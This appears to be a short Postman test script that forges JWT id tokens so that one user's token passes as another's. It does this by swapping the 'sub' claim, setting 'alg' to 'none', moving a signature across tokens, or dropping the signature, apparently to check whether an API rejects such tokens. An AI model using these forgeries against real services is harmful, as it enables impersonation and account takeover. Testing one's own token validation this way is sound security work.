// @ts-nocheck
// What someone who has the token of `own` would send to be taken for the user of `wanted`.
const [own, wanted] = [options.own, options.wanted].map((name) => {
  const parts = (pm.variables.get(name) || '').split('.');
  if (parts.length !== 3) throw new Error(`Paste an id token into the variable ${name}.`);
  return parts;
});

// As Latin-1 each byte is one character: claims in any language stay what they are.
const decoded = (part) => Buffer.from(part, 'base64').toString('latin1');
const encoded = (text) =>
  Buffer.from(text, 'latin1').toString('base64').replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
const subOf = ([, claims]) => JSON.parse(decoded(claims)).sub;
const withClaims = (change) => [own[0], encoded(change(decoded(own[1]))), own[2]];

const edits = {
  nothing: () => withClaims((claims) => claims),
  sub: () => withClaims((claims) => claims.split(subOf(own)).join(subOf(wanted))),
  algorithm: () => [encoded('{"alg":"none","typ":"JWT"}'), wanted[1], ''],
  signature: () => [wanted[0], wanted[1], own[2]],
  'no signature': () => [wanted[0], wanted[1], ''],
};
// Not kept, as a collection's own variables would be.
pm.variables.set('editedToken', edits[options.edit]().join('.'));
